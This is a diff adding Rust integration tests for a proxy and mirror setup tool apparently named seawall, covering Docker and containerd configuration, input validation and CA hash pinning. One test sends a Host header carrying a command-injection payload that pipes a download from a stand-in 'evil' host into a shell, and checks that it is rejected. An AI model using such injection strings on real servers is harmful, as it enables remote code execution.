@@ -79,8 +79,11 @@ fn printed_written_taken_back() {
 
     let proxy = machine.with_ca(&["docker", AT[0], AT[1], "--write", image]);
     assert!(err(&proxy).contains("--mode mirror: that is taken back"), "{proxy:?}");
+    assert!(err(&proxy).contains("\n  systemctl reload docker\n"), "{proxy:?}");
     assert!(out(&proxy).contains("restored  /etc/docker/daemon.json\n"), "{proxy:?}");
-    let undone = out(&machine.run(&["docker", "--write", image, "--undo"]));
+    let undone = machine.run(&["docker", "--write", image, "--undo"]);
+    assert!(err(&undone).contains("\n  systemctl daemon-reload\n"), "{undone:?}");
+    let undone = out(&undone);
     assert!(undone.contains("removed   /etc/systemd/system/docker.service.d/seawall.conf\n"), "{undone}");
     assert_eq!(tree(&machine.image()), before);
     let nothing = machine.run(&["docker", "--write", image, "--undo"]);
@@ -107,6 +110,13 @@ fn what_cannot_be_is_said() {
         (&["docker", "--undo"], 2, "--write"),
         (&["hosts", "--mode", "mirror", "--address", "10.0.0.7:3128"], 1, "dns"),
         (&["docker", "--address", "a b"], 1, "--address takes HOST:PORT"),
+        (&["docker", "--address", "0.0.0.0:3128"], 1, "no client can reach"),
+        (
+            &["docker", "--mode", "mirror", "--write", "/nowhere/at-all", AT[0], AT[1]],
+            1,
+            "/nowhere/at-all: No such file",
+        ),
+        (&["docker", "--mode", "mirror", "--write", machine.ca.to_str().unwrap(), AT[0], AT[1]], 1, "Not a directory"),
         (&["docker", "--address", "127.0.0.1:9"], 1, "--ca FILE"),
         (&["docker", "--address", "seawall.lab:3128", "--ca", machine.ca.to_str().unwrap()], 1, "ca.pem"),
     ] {
@@ -130,6 +140,32 @@ fn what_is_below_the_root_decides() {
     assert!(config.starts_with("version = 3\n") && config.contains("io.containerd.cri.v1.images"), "{config}");
 }
 
+/// What reads every file of a client is not handed the key; who needs no root is not asked for one.
+#[test]
+fn the_root_is_the_certificate_alone_and_where_it_is_needed() {
+    let machine = Machine::new(&format!("{}-----BEGIN PRIVATE KEY-----\nAAAA\n-----END PRIVATE KEY-----\n", a_root()));
+    let refused = machine.with_ca(&["docker", AT[0], AT[1]]);
+    assert!(!refused.status.success() && err(&refused).contains("private key"), "{refused:?}");
+    for client in ["dnsmasq", "unbound", "bind", "coredns"] {
+        assert!(out(&machine.run(&[client, "--address", "192.0.2.7:9"])).contains("192.0.2.7"), "{client}");
+    }
+    let local = machine.run(&["docker", "--mode", "mirror", "--write", machine.image().to_str().unwrap()]);
+    assert!(!local.status.success() || !err(&local).contains("127.0.0.1"), "{local:?}");
+}
+
+/// The second time the file is not new any more, and its version stays.
+#[test]
+fn containerd_keeps_its_version() {
+    let machine = Machine::new(&a_root());
+    let image = machine.image();
+    let words = ["containerd", AT[0], AT[1], "--write", image.to_str().unwrap()];
+    out(&machine.run(&words));
+    let once = text(&image, "/etc/containerd/config.toml");
+    assert!(once.contains("version = 2"), "{once}");
+    assert!(out(&machine.run(&words)).lines().all(|line| line.starts_with("unchanged")));
+    assert_eq!(text(&image, "/etc/containerd/config.toml"), once);
+}
+
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn a_machine_without_the_root_asks_seawall_for_it() {
     let pki = Pki::new();
@@ -139,10 +175,24 @@ async fn a_machine_without_the_root_asks_seawall_for_it() {
     let address = seawall.addr().to_string();
     let client = Client::plain(seawall.addr());
     let pem = String::from_utf8(client.get("http://seawall/ca.crt").send().await.unwrap().bytes().to_vec()).unwrap();
-    let output = tokio::task::spawn_blocking(move || machine.run(&["docker", "--address", &address])).await.unwrap();
+    let (output, refused, written) = tokio::task::spawn_blocking(move || {
+        let image = machine.image();
+        let write = ["docker", "--address", &address, "--write", image.to_str().unwrap()];
+        let output = machine.run(&write[..3]);
+        let refused = machine.run(&write);
+        assert!(tree(&image).is_empty());
+        let sha256 = err(&output).split("sha256 ").nth(1).unwrap().trim().to_owned();
+        machine.run(&[&write[..], &["--ca-sha256", &sha256.replace('A', "B")]].concat()).status.code().unwrap();
+        assert!(tree(&image).is_empty());
+        (output, refused, machine.run(&[&write[..], &["--ca-sha256", &sha256.to_lowercase()]].concat()))
+    })
+    .await
+    .unwrap();
     assert!(out(&output).contains(&pem), "{output:?}");
     let said = err(&output);
     assert!(said.contains("/ca.crt") && said.contains("sha256 ") && said.matches(':').count() > 31, "{said}");
+    assert!(!refused.status.success() && err(&refused).contains("--ca-sha256 "), "{refused:?}");
+    assert!(out(&written).contains("made"), "{written:?}");
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
@@ -186,6 +236,7 @@ async fn the_page_says_what_the_command_says() {
     assert!(get("/").await.1.contains("http://seawall.lab:3128/setup"));
     let hostile =
         client.get("http://seawall.lab:3128/setup/shell").header("host", "a;curl evil|sh").send().await.unwrap();
+    assert_eq!(hostile.status, 400);
     assert!(!String::from_utf8_lossy(hostile.bytes()).contains("evil"));
     assert_eq!(registry.requests().len(), 0);
     assert!(Path::new(&machine.image()).exists());
